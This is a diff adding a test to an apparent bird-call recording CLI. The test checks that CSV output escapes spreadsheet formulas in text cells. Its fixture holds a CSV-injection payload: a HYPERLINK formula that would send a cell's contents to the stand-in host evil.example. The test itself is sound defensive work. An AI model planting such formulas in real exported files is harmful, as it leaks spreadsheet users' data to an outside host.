@@ -67,3 +67,18 @@ def test_bad_parameters_are_one_line_errors(root, capsys):
         assert main(argv) == 2
         err = capsys.readouterr().err.strip()
         assert err.startswith("dawnchorus: error:") and "\n" not in err, err
+
+
+def test_csv_output_neutralises_formulas_in_text_cells_only(tmp_path, capsys):
+    """`query --format csv` is read by spreadsheets too: a site id `=HYPERLINK(...)` gets OWASP's
+    leading quote, a negative number stays a number."""
+    root = tmp_path / "results"
+    seed = Seed(root)
+    seed.deployment("=1+2", site_id='=HYPERLINK("http://evil.example/?x="&A1)', timezone="UTC",
+                    latitude=-33.5, longitude=-70.25)
+    seed.recording("=1+2", datetime(2024, 6, 1, 3, tzinfo=timezone.utc), 1, calls={0: [ROBIN]})
+    assert main(["query", "--results", str(root), "--format", "csv", "select deployment_id, "
+                 "site_id, latitude, longitude, -1 as minus_one from deployments"]) == 0
+    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
+    assert rows == [{"deployment_id": "'=1+2", "site_id": "'=HYPERLINK(\"http://evil.example/?x=\"&A1)",
+                     "latitude": "-33.5", "longitude": "-70.25", "minus_one": "-1"}]
